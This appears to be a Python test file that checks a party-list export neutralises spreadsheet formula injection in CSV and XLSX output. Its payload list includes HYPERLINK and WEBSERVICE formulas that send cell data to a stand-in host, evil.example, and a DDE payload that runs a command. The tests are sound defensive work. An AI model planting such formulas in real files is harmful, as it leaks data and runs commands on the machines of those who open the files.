"""Exported party lists never carry a live formula (issue 6, point 6)."""

import csv
import io
import re
import zipfile

from openpyxl import load_workbook

from suivi.lib.spreadsheet import csv_cell

from . import factories

PAYLOADS = [
    '=1+HYPERLINK("http://evil.example/?"&A1,"Click")',
    '=0*0+WEBSERVICE("http://evil.example/"&A2)',
    "=2+2",
    "-1+cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+1)",
]


def test_csv_cells_that_a_spreadsheet_would_run_get_an_apostrophe():
    for payload in [*PAYLOADS, "\t=2+3", "\r=1+1"]:
        assert csv_cell(payload) == "'" + payload
    assert csv_cell("Boulangerie Dupont") == "Boulangerie Dupont"
    assert csv_cell(None) == ""


def test_the_csv_export_neutralises_every_formula(user_client, plain_user):
    for index, payload in enumerate(PAYLOADS):
        factories.party(plain_user, name=f"Firm {index}", city=payload)
    response = user_client.get("/parties/export.csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    city = rows[0].index("City")
    cities = {r[city] for r in rows[1:]}
    assert cities == {"'" + p for p in PAYLOADS}
    for row in rows[1:]:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row)


def test_the_xlsx_export_writes_text_cells_only_without_a_stray_quote(user_client, plain_user):
    for index, payload in enumerate(PAYLOADS):
        factories.party(plain_user, name=f"Firm {index}", city=payload)
    response = user_client.get("/parties/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    city = rows[0].index("City")
    assert {r[city] for r in rows[1:]} == set(PAYLOADS)  # the text as typed, no apostrophe
    for row in sheet.iter_rows(min_row=2):
        assert all(cell.data_type == "s" for cell in row if cell.value is not None)
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    types = re.findall(r'<c r="[A-Z]+\d+"(?: t="(\w+)")?', xml)
    assert types and set(types) <= {"s", "inlineStr"}
